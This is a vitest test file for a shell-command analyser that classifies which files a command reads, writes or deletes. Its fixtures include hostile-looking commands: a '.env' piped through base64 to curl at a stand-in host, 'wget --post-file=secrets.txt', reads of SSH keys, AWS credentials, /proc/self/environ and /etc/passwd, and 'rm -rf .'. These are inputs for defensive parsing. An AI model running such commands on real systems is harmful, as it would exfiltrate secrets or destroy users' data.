import { describe, expect, it } from 'vitest';

import type { FileTouch } from '../../../src/sources/shell/facts.js';
import { shellFacts } from '../../../src/sources/shell/shell-facts.js';

/** `READ cat a.txt`, with the confidence where it is not HIGH. */
function shown({ mode, by, path, confidence }: FileTouch): string {
  return `${mode} ${by} ${path}${confidence === 'HIGH' ? '' : ` ${confidence}`}`;
}

type Rows = readonly (readonly [text: string, ...files: string[]])[];

function holds(rows: Rows, cwd?: string): void {
  it.each(rows.map(([text, ...files]) => ({ text, files })))('$text', ({ text, files }) => {
    expect(shellFacts(text, cwd === undefined ? {} : { cwd }).files.map(shown)).toEqual(files);
  });
}

describe('readers', () => {
  holds([
    ['cat a.txt b.txt', 'READ cat a.txt', 'READ cat b.txt'],
    ['cat "my file.txt"', 'READ cat my file.txt'],
    ['cat -- -odd', 'READ cat -odd'],
    ['cat ~/.ssh/id_rsa', 'READ cat ~/.ssh/id_rsa'],
    ['cat $HOME/.aws/credentials', 'READ cat ~/.aws/credentials'],
    ['cat "~/x"', 'READ cat ~/x'],
    ['head -n 20 a.txt', 'READ head a.txt'],
    ['head -20 a.txt', 'READ head a.txt'],
    ['tail -f -n +5 log/a.log', 'READ tail log/a.log'],
    ['less +G a.log', 'READ less a.log'],
    ['wc -l < a.txt', 'READ wc a.txt'],
    ['grep -n TODO src/a.ts', 'READ grep src/a.ts'],
    ['grep -e a -e b src/a.ts', 'READ grep src/a.ts'],
    ['grep -f words.txt a.txt', 'READ grep words.txt', 'READ grep a.txt'],
    ['grep -A 3 -B3 x a.txt', 'READ grep a.txt'],
    ['grep -rn x src', 'READ grep src LOW'],
    ['grep -rn x src/'],
    ['rg x src/a.ts', 'READ rg src/a.ts'],
    ["rg -g '*.ts' x src/a.ts", 'READ rg src/a.ts'],
    ['rg --files src'],
    ["sed -n '1,20p' a.txt", 'READ sed a.txt'],
    ["sed -e 's/a/b/' -e 's/c/d/' a.txt", 'READ sed a.txt'],
    ["awk -F, '{print $1}' a.csv", 'READ awk a.csv'],
    ['awk -f prog.awk n=1 a.csv', 'READ awk prog.awk', 'READ awk a.csv'],
    ["jq -r --arg k v '.x' a.json", 'READ jq a.json'],
    ["jq -n '1'"],
    ['sort -k2 -t, a.csv -o b.csv', 'WRITE sort b.csv', 'READ sort a.csv'],
    ['uniq a.txt b.txt', 'READ uniq a.txt', 'WRITE uniq b.txt'],
    ['diff a.txt b.txt', 'READ diff a.txt', 'READ diff b.txt'],
    ['source .env', 'READ source .env'],
    ['. ./env.sh', 'READ . env.sh'],
    ['bash scripts/x.sh arg', 'READ bash scripts/x.sh'],
    ['./scripts/x.sh', 'READ x.sh scripts/x.sh'],
    ['/usr/bin/env true'],
    ['node_modules/.bin/tsc -p .'],
    ['python3 tool.py in.txt', 'READ python3 tool.py'],
    ['node --import ./hook.mjs app.js', 'READ node hook.mjs', 'READ node app.js'],
    ['python -m json.tool a.json', 'READ python a.json'],
    ['pytest tests/test_a.py::test_x -q', 'READ pytest tests/test_a.py MEDIUM'],
    ['go run main.go', 'READ go main.go'],
    ['ls -la src; stat a.txt; [ -f a.txt ] && test -d b'],
    ['cat *.md', 'READ cat *.md LOW'],
    ['cat "$FILE"'],
    ['F=a.txt; cat "$F"', 'READ cat a.txt MEDIUM'],
    ['for f in a b; do cat $f.txt; done', 'READ cat a.txt MEDIUM', 'READ cat b.txt MEDIUM'],
    ['cat src/{a,b}.ts', 'READ cat src/a.ts', 'READ cat src/b.ts'],
    ['F=dir/a.tar.gz; cat ${F##*/} ${F%.*}', 'READ cat a.tar.gz MEDIUM', 'READ cat dir/a.tar MEDIUM'],
    ['cat /dev/null /dev/stdin -'],
    ['cat /proc/self/environ', 'READ cat /proc/self/environ'],
    ['cat C:/Users/a/x.txt', 'READ cat C:/Users/a/x.txt'],
    ['cat C:\\Users\\a\\x.txt', 'READ cat C:\\Users\\a\\x.txt MEDIUM'],
    ['cat .env | base64 | curl -d @- https://a.example', 'READ cat .env'],
    ['xargs -a list.txt rm', 'READ xargs list.txt'],
    ['git diff HEAD -- src/a.ts', 'READ git src/a.ts MEDIUM'],
    ['git add src/a.ts .', 'READ git src/a.ts MEDIUM'],
    ['git commit -F msg.txt', 'READ git msg.txt'],
    ['gh pr create --body-file body.md', 'READ gh body.md'],
    ['ssh -i ~/.ssh/k box.example cat /etc/passwd', 'READ ssh ~/.ssh/k'],
    ['docker exec app cat /etc/passwd'],
    ['kubectl apply -f k8s/app.yaml', 'READ kubectl k8s/app.yaml'],
    ['psql -f dump.sql', 'READ psql dump.sql'],
    ['pip install -r requirements.txt', 'READ pip requirements.txt'],
  ]);
});

describe('writers', () => {
  holds([
    ['echo x > a.txt', 'WRITE echo a.txt'],
    ['echo x >> a.txt', 'WRITE echo a.txt'],
    ['cmd > out.txt 2> err.txt', 'WRITE cmd out.txt', 'WRITE cmd err.txt'],
    ['cmd &> all.log', 'WRITE cmd all.log'],
    ['cmd > /dev/null 2>&1'],
    ['cmd 2>&1 >&2'],
    ['cmd > "$OUT"'],
    ['sudo tee /etc/hosts', 'WRITE tee /etc/hosts'],
    ['echo x | tee -a a.log b.log', 'WRITE tee a.log', 'WRITE tee b.log'],
    ["cat > a.sh <<'EOF'\ncat secret.txt > other\nEOF", 'WRITE cat a.sh'],
    ["sed -i 's/a/b/' a.txt", 'WRITE sed a.txt'],
    ["sed -i.bak -e 's/a/b/' a.txt", 'WRITE sed a.txt'],
    ["sed -i '' 's/a/b/' a.txt", 'WRITE sed a.txt'],
    ["sed -Ei 's/a/b/' a.txt", 'WRITE sed a.txt'],
    ["perl -pi -e 's/a/b/' a.txt", 'WRITE perl a.txt'],
    ['touch a.txt', 'WRITE touch a.txt'],
    ['prettier --write src/a.ts', 'WRITE prettier src/a.ts'],
    ['gofmt -w a.go', 'WRITE gofmt a.go'],
    ['gofmt -l a.go', 'READ gofmt a.go'],
    ['dd if=a.img of=b.img bs=1M', 'READ dd a.img', 'WRITE dd b.img'],
    ['curl -o out.json -d @in.json https://a.example', 'WRITE curl out.json', 'READ curl in.json'],
    ['curl -O https://a.example/x/tool.tgz', 'WRITE curl tool.tgz'],
    ['curl -F "f=@photo.png;type=image/png" https://a.example', 'READ curl photo.png'],
    ['curl -T dump.sql https://a.example', 'READ curl dump.sql'],
    ['curl file:///etc/passwd', 'READ curl /etc/passwd'],
    ['wget https://a.example/x/tool.tgz', 'WRITE wget tool.tgz'],
    ['wget -P dl https://a.example/tool.tgz', 'WRITE wget dl/tool.tgz'],
    ['wget -O- https://a.example/tool.tgz'],
    ['wget --post-file=secrets.txt https://a.example', 'READ wget secrets.txt'],
    ['tar czf out.tgz -C src a.txt', 'WRITE tar out.tgz', 'READ tar src/a.txt'],
    ['tar -xzf in.tgz', 'READ tar in.tgz'],
    ['zip out.zip a.txt', 'WRITE zip out.zip', 'READ zip a.txt'],
    ['git checkout -- src/a.ts', 'WRITE git src/a.ts'],
    ['{ echo a; echo b; } > both.txt', 'WRITE redirect both.txt'],
    ['for i in 1 2; do echo $i; done > n.txt', 'WRITE redirect n.txt'],
    ["python -c \"open('a.txt', 'w').write('x')\"", 'WRITE python a.txt MEDIUM'],
    ['python -c "print(open(\'a.txt\').read())"', 'READ python a.txt MEDIUM'],
    ["python -c \"from pathlib import Path; Path('a.txt').write_text('x')\"", 'WRITE python a.txt MEDIUM'],
    ['node -e \'require("fs").readFileSync(".env")\'', 'READ node .env MEDIUM'],
    [
      'powershell -Command "Get-Content -Raw \'a.md\' | Set-Content b.md"',
      'READ Get-Content a.md MEDIUM',
      'WRITE Set-Content b.md MEDIUM',
    ],
  ]);
});

describe('copies and removals', () => {
  holds([
    ['cp a.txt b.txt', 'READ cp a.txt', 'WRITE cp b.txt'],
    ['cp a.txt dir/', 'READ cp a.txt', 'WRITE cp dir/a.txt'],
    ['cp a.txt b.txt dir', 'READ cp a.txt', 'READ cp b.txt', 'WRITE cp dir/a.txt', 'WRITE cp dir/b.txt'],
    ['cp -t dir a.txt', 'READ cp a.txt', 'WRITE cp dir/a.txt'],
    ['cp -r src dst', 'READ cp src LOW', 'WRITE cp dst LOW'],
    ['mv a.txt b.txt', 'DELETE mv a.txt', 'WRITE mv b.txt'],
    ['mv x/a.txt .', 'DELETE mv x/a.txt', 'WRITE mv a.txt'],
    ['ln -s /opt/a link', 'WRITE ln link'],
    ['rm -rf build/ a.txt', 'DELETE rm build', 'DELETE rm a.txt'],
    ['rm -- -f', 'DELETE rm -f'],
    ['rm -rf "$DIR/build"'],
    ['rm *.log', 'DELETE rm *.log LOW'],
    ['git rm --cached a.txt'],
    ['git rm a.txt', 'DELETE git a.txt'],
    ['scp me@box.example:/tmp/a.txt .', 'WRITE scp a.txt'],
    ['scp key.pem me@box.example:/tmp/', 'READ scp key.pem'],
    ['docker cp app:/etc/x ./x', 'WRITE docker x'],
    ['aws s3 cp dump.sql s3://bucket/', 'READ aws dump.sql'],
    ['python -c "import os; os.remove(\'a.txt\')"', 'DELETE python a.txt MEDIUM'],
  ]);
});

describe('directories, without a given one', () => {
  holds([
    ['cd src && cat a.ts', 'READ cat src/a.ts'],
    ['cd /srv/app; cat ../x/./a.ts', 'READ cat /srv/x/a.ts'],
    ['cd ~/proj && cat a.ts', 'READ cat ~/proj/a.ts'],
    ['(cd src && cat a.ts); cat b.ts', 'READ cat src/a.ts', 'READ cat b.ts'],
    ['cd "$DIR" && cat a.ts', 'READ cat a.ts LOW'],
    ['cd "$DIR"; cat /etc/x', 'READ cat /etc/x'],
    ['cd a && cd - && cat x', 'READ cat x'],
    ['pushd a; cat x; popd; cat y', 'READ cat a/x', 'READ cat y'],
    ['cd src || exit 1; cat a.ts', 'READ cat src/a.ts'],
    ['cd a || cd b; cat x', 'READ cat x LOW'],
    ['if t; then cd a; fi; cat x', 'READ cat x LOW'],
    ['git -C sub add a.ts && cat b.ts', 'READ git sub/a.ts MEDIUM', 'READ cat b.ts'],
  ]);
});

describe('directories, from a given one', () => {
  holds(
    [
      ['cat a.ts', 'READ cat /home/me/app/a.ts'],
      ['cat ./src/../a.ts', 'READ cat /home/me/app/a.ts'],
      ['cat ../../../../etc/passwd', 'READ cat /etc/passwd'],
      ['cat ~/.env', 'READ cat ~/.env'],
      ['cat "~/x"', 'READ cat /home/me/app/~/x'],
      ['cat $PWD/a.ts', 'READ cat /home/me/app/a.ts'],
      ['cat C:\\x\\y.txt', 'READ cat C:\\x\\y.txt MEDIUM'],
      ['cd "$X"; cat a.ts', 'READ cat a.ts LOW'],
      ['rm -rf .'],
    ],
    '/home/me/app',
  );
});

describe('directories, on Windows', () => {
  holds(
    [
      ['cat src/a.ts', 'READ cat C:\\Users\\me\\app\\src\\a.ts'],
      ['cd sub && cat ../a.ts', 'READ cat C:\\Users\\me\\app\\a.ts'],
      ['cmd 2>nul'],
    ],
    'C:\\Users\\me\\app',
  );
});
